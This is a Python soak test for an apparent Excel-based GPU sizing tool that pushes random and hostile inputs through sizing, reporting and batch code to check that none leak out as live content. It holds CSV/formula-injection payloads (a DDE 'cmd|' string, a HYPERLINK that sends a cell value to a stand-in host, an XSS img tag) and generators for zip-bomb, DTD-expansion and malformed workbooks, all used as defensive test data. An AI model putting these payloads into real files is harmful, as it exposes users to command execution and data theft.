"""Soak: sizings over N random input sets, batch reports over R random projects and M hostile
files; prints counts, escapes (must be 0) and peak memory (issue 15).

    python benchmarks/soak.py [--inputs 10000] [--reports 200] [--hostile 100] [--seed 15] [--keep DIR]

An *escape* is any outcome a user must never see:
- a sizing or a cell function that raises something other than an ``XlsizerError`` (a bug), a
  cell error line over 400 characters or with a line break;
- a project (random or hostile) whose reading, sizing or report raises something other than an
  ``XlsizerError``, or takes longer than 30 s;
- a report, portfolio or decision log holding a live formula or link made from input text;
- a batch whose summary does not account for every file.
Input sets mix valid values (most), out-of-range numbers, booleans for numbers, text for
numbers, huge and formula-like strings, so the refusals are exercised as well as the answers.
"""

from __future__ import annotations

import argparse
import io
import random
import re
import resource
import shutil
import sys
import tempfile
import time
import traceback
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

from xlsizer import cells
from xlsizer.api import size
from xlsizer.batch import run_batch
from xlsizer.catalog import load_catalog
from xlsizer.errors import XlsizerError
from xlsizer.inputs import NUMERIC_FIELDS, SizingInputs
from xlsizer.workbook import project as project_mod
from xlsizer.workbook.checklist import CHECKLIST, ChecklistItem
from xlsizer.workbook.template import write_template

PAYLOADS = ('=HYPERLINK("http://example.invalid/?x="&Inputs!C6,"x")', "=cmd|' /C calc'!A0", "+SUM(1)",
            "[link](http://example.invalid) <img src=x onerror=alert(1)>", "@SUM(2)")
MARKERS = ("HYPERLINK", "cmd|", "SUM(1)", "SUM(2)")
SLOW_S = 30.0


def _bounds(field: str) -> tuple[float, float]:
    lo, hi = 0.0, 1e6
    for m in SizingInputs.model_fields[field].metadata:
        for attr in ("ge", "gt"):
            if getattr(m, attr, None) is not None:
                lo = float(getattr(m, attr))
        if getattr(m, "le", None) is not None:
            hi = float(m.le)
    return lo, hi


def random_inputs(rng: random.Random, models: list[str], gpus: list[str], hostile: float = 0.15) -> dict[str, Any]:
    """A random input set: a handful of fields, mostly valid, some hostile."""
    d: dict[str, Any] = {"model": rng.choice(models), "gpu": rng.choice([*gpus, "auto", "auto", "auto"])}
    d["concurrent_users"] = rng.choice([rng.randint(1, 200), rng.randint(1, 5000), rng.randint(1, 100_000)])
    for f in rng.sample(list(SizingInputs.model_fields), rng.randint(0, 8)):
        if f in ("model", "gpu", "max_total_gpus"):
            continue
        ann = SizingInputs.model_fields[f].annotation
        if rng.random() < hostile:
            d[f] = rng.choice([True, -1, 10**40, "lots", "(" * 5000, *PAYLOADS, None, float("nan"), [1, 2]])
        elif f in NUMERIC_FIELDS:
            lo, hi = _bounds(f)
            x = rng.uniform(lo, min(hi, lo * 50 + 100)) if rng.random() < 0.8 else rng.uniform(lo, hi)
            d[f] = int(x) if "int" in str(ann) else round(x, 3)
        elif ann is bool:
            d[f] = rng.random() < 0.5
        elif f == "precision":
            d[f] = rng.choice(["fp8", "bf16", "int8", "int4", "fp4"])
        elif f == "kv_cache_dtype":
            d[f] = rng.choice(["auto", "fp8", "bf16"])
        elif f == "workload_type":
            d[f] = rng.choice(["rag", "interactive_chat", "code_completion", "batch", "agentic"])
        elif f == "redundancy_mode":
            d[f] = rng.choice(["N", "N+1", "N+2"])
        elif f == "throughput_source":
            d[f] = rng.choice(["roofline", "course-table"])
        elif f == "serving_engine":
            d[f] = rng.choice(["vllm", "trt-llm", "sglang", "triton"])
        elif f == "currency":
            d[f] = rng.choice(["USD", "EUR", "=1+2", "@SUM(2)"])
    return d


def _escape(log: list[str], what: str) -> None:
    log.append(what)


def soak_sizings(n: int, rng: random.Random, counts: Counter, escapes: list[str], kinds: Counter) -> None:
    cat = load_catalog()
    models, gpus = list(cat.models), list(cat.gpus)
    for i in range(n):
        d = random_inputs(rng, models, gpus)
        try:
            size(d)
            counts["sizings answered"] += 1
        except XlsizerError as exc:
            counts["sizings refused"] += 1
            kinds[type(exc).__name__] += 1
            if len(exc.short()) > 400 or "\n" in exc.short():
                _escape(escapes, f"sizing {i}: message of {len(exc.short())} characters")
        except Exception:
            _escape(escapes, f"sizing {i}: {traceback.format_exc(limit=2).splitlines()[-1]} for {d}")
        if i % 10 == 0:  # the same inputs through an Excel function, as a range
            rows = [[k, v] for k, v in d.items()]
            try:
                out = cells.scenario_value("total_gpus", rows, "burst", ())
            except Exception:
                _escape(escapes, f"cell {i}: {traceback.format_exc(limit=2).splitlines()[-1]}")
                continue
            counts["cell calls"] += 1
            if isinstance(out, str) and (len(out) > 400 or "\n" in out or "internal error" in out):
                _escape(escapes, f"cell {i}: {out[:120]}")


def write_projects(folder: Path, r: int, rng: random.Random) -> list[Path]:
    """R random, valid projects whose names, notes and checklist carry injection payloads."""
    cat = load_catalog()
    models = [m for m in cat.models if not m.startswith("custom")]
    out = []
    for i in range(r):
        values = {"model": rng.choice(models), "concurrent_users": rng.randint(1, 2000),
                  "workload_type": rng.choice(["rag", "interactive_chat", "code_completion", "batch", "agentic"]),
                  "currency": rng.choice(["USD", "=1+2"])}
        items = [ChecklistItem(section=c.section, item=rng.choice([c.item, *PAYLOADS]), owner=c.owner,
                               status=rng.choice(["open", "done"]), value=rng.choice([None, PAYLOADS[0]]),
                               reason=rng.choice([None, PAYLOADS[1]]), date=None) for c in CHECKLIST[:6]]
        out.append(write_template(folder / f"p{i:04d}.xlsx", values, checklist=items,
                                  name=rng.choice([f"Project {i}", *PAYLOADS]), notes=rng.choice(PAYLOADS)))
    return out


def write_hostile(folder: Path, m: int, rng: random.Random, template: bytes) -> list[Path]:
    """M hostile files: zip bombs (small to build), whole-sheet and malformed names, DTDs, too
    many cells, garbage, truncation, a checklist a million rows down, huge strings."""
    kinds = ["bomb", "whole-sheet", "range", "two-areas", "other-sheet", "external", "formula-name", "dtd",
             "many-cells", "garbage", "truncated", "deep-row", "huge-string", "not-zip", "empty"]
    out = []
    for i in range(m):
        kind = kinds[i % len(kinds)] if i < len(kinds) else rng.choice(kinds)
        p = folder / f"h{i:04d}-{kind}.xlsx"
        p.write_bytes(_hostile(kind, template))
        out.append(p)
    return out


def _hostile(kind: str, raw: bytes) -> bytes:
    names = {"whole-sheet": "'Inputs'!$A$1:$XFD$1048576", "range": "'Inputs'!$C$6:$C$9",
             "two-areas": "'Inputs'!$C$6,'Inputs'!$C$7", "other-sheet": "'Catalog'!$A$1",
             "external": "[1]Inputs!$C$6", "formula-name": "OFFSET(Inputs!$C$6,0,0)"}
    if kind == "not-zip":
        return b"this is not a workbook"
    if kind == "empty":
        return b""
    if kind == "truncated":
        return raw[: len(raw) // 2]
    catalog, checklist, inputs = (project_mod.sheet_part(raw, t) for t in ("Catalog", "Checklist", "Inputs"))
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        model_cell = re.search(rb'<definedName name="model">[^<]*!\$?([A-Z]+)\$?(\d+)</definedName>',
                               z.read("xl/workbook.xml"))
    ref = (model_cell.group(1) + model_cell.group(2)) if model_cell else b"C6"
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data, n = zin.read(item.filename), item.filename
            if kind in names and n == "xl/workbook.xml":
                data = re.sub(rb'(<definedName name="model">)[^<]*(</definedName>)',
                              lambda mm: mm.group(1) + names[kind].encode() + mm.group(2), data)
            elif kind == "bomb" and n == catalog:
                data = data.replace(b"</worksheet>", b" " * (project_mod.MAX_PART_BYTES + 1) + b"</worksheet>")
            elif kind == "dtd" and n == "xl/workbook.xml":
                data = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                        + re.sub(rb"^<\?xml[^>]*\?>", b"", data))
            elif kind == "many-cells" and n == catalog:
                rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r) for r in range(2000, 60_000))
                data = data.replace(b"</sheetData>", rows + b"</sheetData>")
            elif kind == "garbage" and n == inputs:
                data = b"<worksheet><<<" + data[:100]
            elif kind == "deep-row" and n == checklist:
                data = data.replace(b"</sheetData>", b'<row r="1048576"><c r="B1048576" t="inlineStr"><is><t>x</t>'
                                                     b"</is></c></row></sheetData>")
            elif kind == "huge-string" and n == inputs:  # 32,767 '(' as the model name
                cell = b'<c r="' + ref + b'" t="inlineStr"><is><t>' + b"(" * 32_767 + b"</t></is></c>"
                data = re.sub(rb'<c r="' + ref + rb'"(?:[^>]*/>|[^>]*>.*?</c>)', lambda mm, c=cell: c, data,
                              count=1, flags=re.S)
            zout.writestr(item, data)
    return buf.getvalue()


def check_project(path: Path, out_dir: Path, counts: Counter, escapes: list[str], label: str) -> None:
    """Read, size and report one project the way the batch does, classifying what happens."""
    from xlsizer.workbook.markdown import write_markdown
    from xlsizer.workbook.project import read_project
    from xlsizer.workbook.report import write_report

    start = time.perf_counter()
    try:
        proj = read_project(path)
        res = size(proj.inputs)
        rep = write_report(proj, res, out_dir / f"{path.stem}-report.xlsx")
        md = write_markdown(proj, res, out_dir / f"{path.stem}.md")
        counts[f"{label} reported"] += 1
        live = [f for f in _formulas(rep) if any(mk in f for mk in MARKERS)]
        if live:
            _escape(escapes, f"{path.name}: live formula from input text in the report: {live[0][:80]}")
        text = md.read_text(encoding="utf-8")
        if re.search(r"(?<!\\)\]\(http|(?<!\\)<img|http://", text):
            _escape(escapes, f"{path.name}: live link or HTML from input text in the decision log")
    except XlsizerError as exc:
        counts[f"{label} refused"] += 1
        if len(str(exc)) > 600 or "\n" in str(exc):
            _escape(escapes, f"{path.name}: message of {len(str(exc))} characters")
    except Exception:
        _escape(escapes, f"{path.name}: {traceback.format_exc(limit=2).splitlines()[-1]}")
    if time.perf_counter() - start > SLOW_S:
        _escape(escapes, f"{path.name}: took {time.perf_counter() - start:.0f} s")


def _formulas(path: Path) -> list[str]:
    out: list[str] = []
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                out += re.findall(r"<f[^>]*>(.*?)</f>", z.read(n).decode("utf-8", "replace"))
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--inputs", type=int, default=10_000, help="random input sets to size (default 10,000)")
    ap.add_argument("--reports", type=int, default=200, help="random projects to report on (default 200)")
    ap.add_argument("--hostile", type=int, default=100, help="hostile files (default 100)")
    ap.add_argument("--seed", type=int, default=15)
    ap.add_argument("--keep", metavar="DIR", help="keep the generated files here")
    a = ap.parse_args(argv)
    rng = random.Random(a.seed)
    counts: Counter = Counter()
    escapes: list[str] = []
    t0 = time.perf_counter()

    kinds: Counter = Counter()
    soak_sizings(a.inputs, rng, counts, escapes, kinds)
    t_sizing = time.perf_counter() - t0

    root = Path(a.keep) if a.keep else Path(tempfile.mkdtemp(prefix="xlsizer-soak-"))
    src, out = root / "projects", root / "out"
    for d in (src, out):
        d.mkdir(parents=True, exist_ok=True)
    t1 = time.perf_counter()
    projects = write_projects(src, a.reports, rng)
    template = write_template(root / "template.xlsx", {"concurrent_users": 100}).read_bytes()
    hostile = write_hostile(src, a.hostile, rng, template)
    for p in projects:
        check_project(p, out, counts, escapes, "projects")
    for p in hostile:
        check_project(p, out, counts, escapes, "hostile files")
    summary = run_batch([src], root / "batch", progress=False)  # the real batch over the same folder
    counts["batch files"] = summary.total
    counts["batch ok"] = summary.ok
    counts["batch failed"] = summary.failed
    counted = summary.ok + summary.failed + len(summary.left_out)
    if summary.total != len(projects) + len(hostile) or counted != summary.total:
        _escape(escapes, f"batch summary does not add up: {summary.line}")
    if summary.portfolio is None:
        _escape(escapes, "batch wrote no portfolio")
    elif [f for f in _formulas(summary.portfolio) if any(mk in f for mk in MARKERS)]:
        _escape(escapes, "portfolio holds a live formula from input text")
    t_reports = time.perf_counter() - t1
    peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux

    print(f"sizings: {a.inputs:,} random input sets in {t_sizing:.1f} s "
          f"({counts['sizings answered']:,} answered, {counts['sizings refused']:,} refused with a reason; "
          f"{counts['cell calls']:,} also through LLM_GPUS)")
    print("  refusals: " + ", ".join(f"{k} {v:,}" for k, v in kinds.most_common()))
    print(f"reports: {a.reports:,} random projects ({counts['projects reported']:,} reported, "
          f"{counts['projects refused']:,} refused); {a.hostile:,} hostile files "
          f"({counts['hostile files refused']:,} refused, {counts['hostile files reported']:,} reported); "
          f"batch {summary.ok:,} ok + {summary.failed:,} failed of {summary.total:,}; {t_reports:.1f} s")
    print(f"peak memory: {peak_mb:,.0f} MB (ru_maxrss)")
    print(f"escapes: {len(escapes)}")
    for e in escapes[:20]:
        print(f"  {e}")
    if not a.keep:
        shutil.rmtree(root, ignore_errors=True)
    return 1 if escapes else 0


if __name__ == "__main__":
    sys.exit(main())
